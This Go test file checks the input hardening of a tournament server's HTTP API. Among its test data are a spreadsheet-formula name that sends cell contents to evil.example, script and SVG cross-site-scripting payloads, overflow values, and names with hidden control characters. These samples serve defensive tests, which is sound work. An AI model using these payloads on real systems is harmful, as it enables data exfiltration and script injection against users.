package http_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"turnir"
)

// Attacks on the inputs (issue 9): formula names in CSV, files left by a
// refused upload or served as pages, numbers that overflow, bodies too
// large, names with hidden characters.

// TestStandingsCSVDefusesFormulaNames: a solver named like a spreadsheet
// formula is written as text (a leading apostrophe) in standings.csv, as
// in every other export.
func TestStandingsCSVDefusesFormulaNames(t *testing.T) {
	e := newEnv(t)
	org, _ := e.setup(defaultSettings())
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	e.solver("cup", evil)
	e.solver("cup", "@SUM(1+1)")
	org.must("POST", "/api/tournaments/cup/begin", nil, nil)
	_, raw := e.client().call("GET", "/api/tournaments/cup/export/standings.csv", nil, nil)
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatalf("standings.csv does not parse: %v\n%s", err, raw)
	}
	names := map[string]bool{}
	for _, r := range recs[1:] {
		names[r[1]] = true
	}
	for _, want := range []string{"'" + evil, "'@SUM(1+1)"} {
		if !names[want] {
			t.Errorf("standings.csv lacks the defused name %q: %s", want, raw)
		}
	}
}

// TestRefusedUploadStoresNothing: whatever refuses a multipart upload
// (the set names a file not sent, the set is broken, a file is not named
// by the set, a type the set may not name), no file of it is on disk.
func TestRefusedUploadStoresNothing(t *testing.T) {
	e := newEnv(t)
	org := e.org()
	org.must("POST", "/api/tournaments", map[string]any{"id": "cup", "name": "Кубок", "settings": defaultSettings()}, nil)
	png := []byte("\x89PNG\r\n\x1a\n picture")
	html := []byte("<script>alert(document.cookie)</script>")
	one := func(files ...string) map[string]any {
		return map[string]any{"puzzles": []any{map[string]any{"id": "r1", "kind": "text", "text": text1, "images": files,
			"key": map[string]any{"accepted": []string{key1}}}}}
	}
	for _, tc := range []struct {
		what  string
		set   any
		files map[string][]byte
	}{
		{"set_names_a_file_not_sent", one("r1.png", "r2.png"), map[string][]byte{"r1.png": png, "evil.html": html}},
		{"set_is_broken", map[string]any{"puzzles": "no"}, map[string][]byte{"r1.png": png, "evil.html": html}},
		{"file_not_named_by_the_set", one("r1.png"), map[string][]byte{"r1.png": png, "evil.html": html}},
		{"svg_named_by_the_set", one("evil.svg"), map[string][]byte{"evil.svg": []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)}},
	} {
		t.Run(tc.what, func(t *testing.T) {
			if st, raw := org.upload("cup", tc.set, tc.files); st != 400 {
				t.Fatalf("upload: %d %s, want 400", st, raw)
			}
			if left := filesOnDisk(e, "cup"); len(left) != 0 {
				t.Fatalf("a refused upload left %v on disk", left)
			}
		})
	}
	if st, raw := org.upload("cup", one("r1.png"), map[string][]byte{"r1.png": png}); st != 200 {
		t.Fatalf("a good upload: %d %s", st, raw)
	}
	if left := filesOnDisk(e, "cup"); len(left) != 1 || left[0] != "r1.png" {
		t.Fatalf("after a good upload the folder holds %v, want [r1.png]", left)
	}
}

// filesOnDisk lists every file (temporary ones too) in tid's folder.
func filesOnDisk(e *env, tid string) []string {
	ents, _ := os.ReadDir(filepath.Join(e.dir, "data", "files", tid))
	var out []string
	for _, x := range ents {
		out = append(out, x.Name())
	}
	return out
}

// TestStoredFilesServedInert: an image is served as its image type; a PDF,
// and an .html or .svg that an older server stored, are downloads
// (Content-Disposition: attachment) of an inert type, never a page of
// this origin; every file is nosniff and sandboxed.
func TestStoredFilesServedInert(t *testing.T) {
	e := newEnv(t)
	org := e.org()
	org.must("POST", "/api/tournaments", map[string]any{"id": "cup", "name": "Кубок", "settings": defaultSettings()}, nil)
	dir := filepath.Join(e.dir, "data", "files", "cup")
	os.MkdirAll(dir, 0o700)
	for name, body := range map[string]string{"pic.png": "\x89PNG\r\n\x1a\n", "book.pdf": "%PDF-1.4", "evil.html": "<script>alert(1)</script>",
		"evil.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, "evil.htm": "<script>alert(1)</script>"} {
		os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600)
	}
	for name, want := range map[string][2]string{
		"pic.png":   {"image/png", "inline"},
		"book.pdf":  {"application/pdf", "attachment"},
		"evil.html": {"application/octet-stream", "attachment"},
		"evil.htm":  {"application/octet-stream", "attachment"},
		"evil.svg":  {"application/octet-stream", "attachment"},
	} {
		req, _ := http.NewRequest("GET", e.ts.URL+"/api/tournaments/cup/files/"+name, nil)
		resp, err := org.hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		h := resp.Header
		if resp.StatusCode != 200 || h.Get("Content-Type") != want[0] || !strings.HasPrefix(h.Get("Content-Disposition"), want[1]) ||
			h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s: %d, Content-Type %q, Content-Disposition %q, nosniff %q, CSP %q; want %s, %s",
				name, resp.StatusCode, h.Get("Content-Type"), h.Get("Content-Disposition"), h.Get("X-Content-Type-Options"), h.Get("Content-Security-Policy"), want[0], want[1])
		}
	}
}

// TestExtendOutOfRangeRefused: an extension is 1 to 3600 seconds; 18446744074
// seconds used to wrap around int64 to a 290 ms extension.
func TestExtendOutOfRangeRefused(t *testing.T) {
	e := newEnv(t)
	org, _ := e.setup(defaultSettings())
	e.solver("cup", "Аня")
	e.solver("cup", "Борис")
	org.must("POST", "/api/tournaments/cup/begin", nil, nil)
	for _, s := range []any{18446744074, 9223372037, 3601, 0, -60} {
		org.refused("POST", "/api/tournaments/cup/rounds/1/extend", map[string]any{"reason": "сложная задача", "seconds": s}, turnir.EINVALID)
	}
	org.must("POST", "/api/tournaments/cup/rounds/1/extend", map[string]any{"reason": "сложная задача", "seconds": 3600}, nil)
	org.refused("POST", "/api/tournaments/cup/puzzles/demo", map[string]any{"rounds": 101}, turnir.EINVALID)
	org.refused("POST", "/api/tournaments/cup/puzzles/demo", map[string]any{"rounds": -1}, turnir.EINVALID)
}

// TestTooLargeBodyIs413: a body over its limit is refused with 413 and
// the limit named, for a JSON set (10 MB), a multipart set part, and a
// small JSON command.
func TestTooLargeBodyIs413(t *testing.T) {
	e := newEnv(t)
	org := e.org()
	org.must("POST", "/api/tournaments", map[string]any{"id": "cup", "name": "Кубок", "settings": defaultSettings()}, nil)
	huge := bytes.Repeat([]byte(" "), 10<<20)
	send := func(ct string, body []byte) (int, errBody) {
		req, _ := http.NewRequest("PUT", e.ts.URL+"/api/tournaments/cup/puzzles", bytes.NewReader(body))
		req.Header.Set("Content-Type", ct)
		resp, err := org.hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		raw, _ := io.ReadAll(resp.Body)
		var eb errBody
		json.Unmarshal(raw, &eb)
		return resp.StatusCode, eb
	}
	t.Run("json_set_of_10_MB", func(t *testing.T) {
		st, eb := send("application/json", huge)
		if st != 413 || eb.Code != turnir.ETOOLARGE || !strings.Contains(eb.MessageEN, "4 MB") || !strings.Contains(eb.MessageRU, "4 МБ") {
			t.Fatalf("10 MB set: %d %+v, want 413 naming the 4 MB limit", st, eb)
		}
	})
	t.Run("multipart_set_of_10_MB", func(t *testing.T) {
		var body bytes.Buffer
		mw := multipart.NewWriter(&body)
		w, _ := mw.CreateFormFile("set", "set.json")
		w.Write(huge)
		mw.Close()
		if st, eb := send(mw.FormDataContentType(), body.Bytes()); st != 413 || eb.Code != turnir.ETOOLARGE {
			t.Fatalf("10 MB set part: %d %+v, want 413", st, eb)
		}
	})
	t.Run("registration_body_over_4_KB", func(t *testing.T) {
		eb := e.client().refused("POST", "/api/tournaments/cup/solvers", map[string]string{"name": strings.Repeat("я", 4<<10)}, turnir.ETOOLARGE)
		if !strings.Contains(eb.MessageEN, "4 KB") {
			t.Errorf("the refusal does not name the limit: %+v", eb)
		}
	})
}

// TestRegistrationNamesOverHTTP (P2): hidden characters are refused, and a
// zero-width twin of a registered name is refused as the same name.
func TestRegistrationNamesOverHTTP(t *testing.T) {
	e := newEnv(t)
	e.setup(defaultSettings())
	e.solver("cup", "Alice")
	c := e.client()
	c.refused("POST", "/api/tournaments/cup/solvers", map[string]string{"name": "Alice\u200b"}, turnir.ECONFLICT)
	for _, name := range []string{"Bob\x00", "\x1b[31mBob", "\u202eboB", "Bo\u200bb"} {
		c.refused("POST", "/api/tournaments/cup/solvers", map[string]string{"name": name}, turnir.EINVALID)
	}
}

// TestCreateWithSomeSettings: a tournament created with only the settings
// that differ from the regulation's gets the regulation's for the rest,
// where a partial object was taken whole and refused for its empty bye
// rule; an unknown or mistyped setting is still refused by name.
func TestCreateWithSomeSettings(t *testing.T) {
	e := newEnv(t)
	org := e.org()
	var v struct {
		Settings struct {
			Rounds      int    `json:"rounds"`
			RoundLength string `json:"round_length"`
			Bye         struct {
				Mode string `json:"mode"`
			} `json:"bye"`
		} `json:"settings"`
	}
	org.must("POST", "/api/tournaments", map[string]any{"id": "part", "name": "Часть", "settings": map[string]any{"rounds": 3}}, &v)
	if v.Settings.Rounds != 3 || v.Settings.Bye.Mode == "" || v.Settings.RoundLength == "" {
		t.Fatalf("settings after a partial create: %+v", v.Settings)
	}
	eb := org.refused("POST", "/api/tournaments", map[string]any{"id": "bad", "name": "Плохо", "settings": map[string]any{"roundz": 3}}, turnir.EINVALID)
	if !strings.Contains(eb.MessageEN, "roundz") {
		t.Fatalf("an unknown setting: %+v", eb)
	}
	org.refused("POST", "/api/tournaments", map[string]any{"id": "bad", "name": "Плохо", "settings": map[string]any{"rounds": "three"}}, turnir.EINVALID)
}
